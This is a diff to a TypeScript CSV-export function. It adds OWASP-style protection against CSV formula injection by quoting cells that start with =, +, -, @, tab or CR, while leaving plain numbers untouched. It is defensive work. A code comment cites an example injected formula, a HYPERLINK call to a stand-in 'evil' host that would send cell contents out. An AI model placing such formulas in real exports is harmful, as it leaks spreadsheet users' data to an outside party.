@@ -6,14 +6,24 @@ import type { SweepResult, SweepRow } from './sweep.ts';
 
 export const CSV_HEADER = ['step', 'value', 'model', 'latex', 'edit_distance', 'mean_confidence', 'ms'] as const;
 
+/** A cell a spreadsheet would run as a formula: starts with =, +, -, @, tab or CR (OWASP). */
+const FORMULA_START_RE = /^[=+\-@\t\r]/;
+/** A plain decimal number ("-0.5", "+3", "1e-3"): a spreadsheet reads it as a number, never a formula. */
+const NUMBER_RE = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;
+
 /**
  * One CSV field (RFC 4180): quoted when it holds a comma, a double quote, a line
  * break or leading/trailing spaces, with inner quotes doubled. LaTeX is full of
  * commas and quotes (`f(x, y)`, `f''`), so this matters.
+ *
+ * Text that a spreadsheet would take for a formula gets a leading single quote (OWASP's
+ * CSV-injection advice): the LaTeX column is model output, and a model folder or hub model
+ * can "predict" `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)`. Numbers (-0.5) stay numbers.
  */
 export function csvField(value: string | number | null | undefined): string {
   if (value === null || value === undefined) return '';
-  const s = typeof value === 'number' ? formatNumber(value) : value;
+  let s = typeof value === 'number' ? formatNumber(value) : value;
+  if (typeof value === 'string' && FORMULA_START_RE.test(s) && !NUMBER_RE.test(s)) s = `'${s}`;
   return /[",\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
 
